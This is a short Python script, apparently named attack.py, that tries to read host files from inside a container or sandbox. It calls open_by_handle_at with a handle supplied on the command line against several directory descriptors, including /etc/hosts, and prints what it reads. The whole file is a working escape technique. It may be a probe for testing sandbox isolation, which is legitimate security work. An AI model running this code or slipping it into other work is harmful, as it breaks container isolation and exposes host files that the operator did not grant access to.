"""Open a file of the host by its handle, which needs no path to it: `TYPE HANDLE`."""

import ctypes
import os
import struct
import sys

kind, handle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
libc = ctypes.CDLL(None)
print("trying", flush=True)
for place in ("in/attack.py", "in", "out", "/usr", "/etc/hosts"):
    if os.path.exists(place):
        wanted = struct.pack("Ii", len(handle), kind) + handle
        found = libc.open_by_handle_at(os.open(place, os.O_RDONLY), wanted, os.O_RDONLY)
        if found >= 0:
            print(os.read(found, 100).decode())
